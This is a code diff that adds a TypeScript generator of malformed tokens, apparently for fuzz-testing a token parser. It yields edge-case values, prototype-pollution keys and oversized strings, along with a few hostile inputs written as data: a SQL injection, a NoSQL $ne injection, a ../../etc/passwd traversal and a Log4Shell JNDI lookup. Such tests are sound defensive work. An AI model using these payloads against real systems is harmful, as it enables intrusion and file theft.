@@ -1,0 +1,55 @@
+import type { SeededRandom } from '../../fixture/random-text.js';
+import { alphabet, type Tampered } from './tampered-tokens.js';
+
+/** What browsers, scanners and other frameworks send. */
+export function* garbage(token: string, random: SeededRandom): Generator<Tampered> {
+  const shapes = [
+    '',
+    ' ',
+    '.',
+    '..',
+    '....',
+    '.....',
+    '0',
+    '-1',
+    'null',
+    'undefined',
+    'true',
+    '{}',
+    '[]',
+    '""',
+    '[object Object]',
+    '__proto__',
+    'constructor',
+    '{"$ne":null}',
+    "' OR 1=1 --",
+    '\u0000',
+    '\ud800',
+    '\udfff\ud800',
+    '😀',
+    '%',
+    '%ff%fe',
+    '%00',
+    '\u202e',
+    '../../etc/passwd',
+    '${jndi:ldap://example.org/a}',
+    'a'.repeat(32),
+    'A'.repeat(5000),
+    '.'.repeat(5000),
+    'A'.repeat(1_000_000),
+    '%'.repeat(100_000),
+    '('.repeat(100_000),
+    'é'.repeat(5000),
+  ];
+  for (const shape of shapes) yield { token: shape, change: `the text ${JSON.stringify(shape.slice(0, 40))}` };
+  for (let length = 1; length < 300; length++) {
+    const text = Array.from({ length }, () => alphabet[random.below(64)]).join('');
+    yield { token: text, change: `${length} letters of base64url at random` };
+  }
+  const parts = token.split(/[^A-Za-z0-9_-]/);
+  for (const part of parts) {
+    for (const name of ['', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '0', 'A'.repeat(10_000)]) {
+      yield { token: token.replace(part, () => name), change: `a part of it replaced by ${name.slice(0, 20)}` };
+    }
+  }
+}
